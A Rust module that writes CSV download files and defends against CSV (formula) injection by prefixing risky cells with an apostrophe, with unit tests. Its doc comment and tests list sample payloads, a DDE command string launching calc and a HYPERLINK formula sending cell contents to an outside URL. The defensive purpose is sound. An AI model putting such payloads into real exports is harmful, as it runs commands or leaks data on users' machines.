//! The one CSV writer of every download (`data/*.csv`, `comparison.csv`, `sectors.csv`).
//!
//! Lines are written by the csv crate, quoting cells only when they must be (a comma, a
//! double quote or a line break), and a text cell that a spreadsheet would run as a
//! formula is made plain text first (see [`neutralise`]).

use std::borrow::Cow;

/// A cell as it is safe to open in a spreadsheet: a cell starting with `=`, `+`, `-`, `@`, a
/// tab or a carriage return gets a leading `'`, unless it is a plain number (OWASP's rule
/// against CSV injection). Excel, LibreOffice and Google Sheets then show it as text
/// instead of running it, e.g. `=HYPERLINK(…)` or `+cmd|' /C calc'!A0`.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A sign, then ASCII digits with grouping commas and at most one decimal point, starting
/// and ending with a digit or the point: `-5`, `+3`, `-1,200.50`, `-1,00,000`, `-.5`. Such a
/// cell holds no name, operator or reference, so a spreadsheet cannot run it as a formula.
fn is_plain_number(cell: &str) -> bool {
    let body = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let bytes = body.as_bytes();
    let digit_or_point = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_digit() || *b == b'.');
    digit_or_point(bytes.first())
        && bytes.last().is_some_and(u8::is_ascii_digit)
        && bytes
            .iter()
            .all(|b| b.is_ascii_digit() || matches!(b, b',' | b'.'))
        && bytes.iter().filter(|&&b| b == b'.').count() <= 1
        && !body.contains(",,")
        && !body.contains(",.")
        && !body.contains(".,")
        && body
            .split('.')
            .nth(1)
            .is_none_or(|decimals| !decimals.contains(','))
}

/// Appends one line of `cells`, neutralised, ended by `\n`. A cell is quoted only when it
/// holds a comma, a double quote or a line break (the csv crate's `QuoteStyle::Necessary`),
/// and a line of one empty cell is written `""`, so that it reads back as a row rather than
/// as a blank line. A line of no cells at all is left blank.
pub fn push_line<'a>(out: &mut String, cells: impl IntoIterator<Item = &'a str>) {
    let mut cells = cells.into_iter().peekable();
    if cells.peek().is_none() {
        out.push('\n');
        return;
    }
    let bytes = line_bytes(cells).expect("a CSV line written to memory cannot fail");
    // The cells are UTF-8 and the writer adds ASCII only, so this is never lossy.
    match std::str::from_utf8(&bytes) {
        Ok(line) => out.push_str(line),
        Err(_) => out.push_str(&String::from_utf8_lossy(&bytes)),
    }
}

/// One line of CSV. Writing to memory has no I/O to fail, and `flexible` lets a line have
/// any number of cells (the callers keep their lines the same length).
fn line_bytes<'a>(cells: impl Iterator<Item = &'a str>) -> csv::Result<Vec<u8>> {
    let mut line = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Necessary)
        .terminator(csv::Terminator::Any(b'\n'))
        .flexible(true)
        .buffer_capacity(LINE_BUFFER)
        .from_writer(Vec::with_capacity(LINE_BUFFER));
    for cell in cells {
        line.write_field(neutralise(cell).as_bytes())?;
    }
    line.write_record(None::<&[u8]>)?;
    Ok(line.into_inner().map_err(csv::IntoInnerError::into_error)?)
}

/// Bytes set aside for one line; a longer line grows the buffer.
const LINE_BUFFER: usize = 512;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_get_a_leading_apostrophe() {
        for cell in [
            "=HYPERLINK(\"https://x?d=\"&B2,\"a\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1)",
            "-2+3+cmd|' /C calc'!A0",
            "\tx",
            "\r=1",
            "=1",
            "-",
            "+",
            "-A1",
            "-1e3",
            "-1,,2",
            "-1.2.3",
            "-1.",
            "-,5",
            "-1.2,3",
            "-१२३",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_stay() {
        for cell in [
            "-5",
            "+3",
            "-1,200.50",
            "-1,00,000",
            "-0.5",
            "-.5",
            "2080/81",
            "2024-07-30",
            "Roads, bridges",
            "शिक्षा",
            "a=b",
            " =1",
            "",
        ] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn lines_are_quoted_only_where_needed() {
        let mut out = String::new();
        push_line(
            &mut out,
            ["a", "Roads, bridges", "say \"hi\"", "two\nlines"],
        );
        push_line(&mut out, [""]);
        push_line(&mut out, ["=1+1", "-5", "-x,y"]);
        push_line(&mut out, ["", "cr\r", ""]);
        push_line(&mut out, []);
        assert_eq!(
            out,
            "a,\"Roads, bridges\",\"say \"\"hi\"\"\",\"two\nlines\"\n\"\"\n'=1+1,-5,\"'-x,y\"\n\
             ,\"cr\r\",\n\n"
        );
    }
}
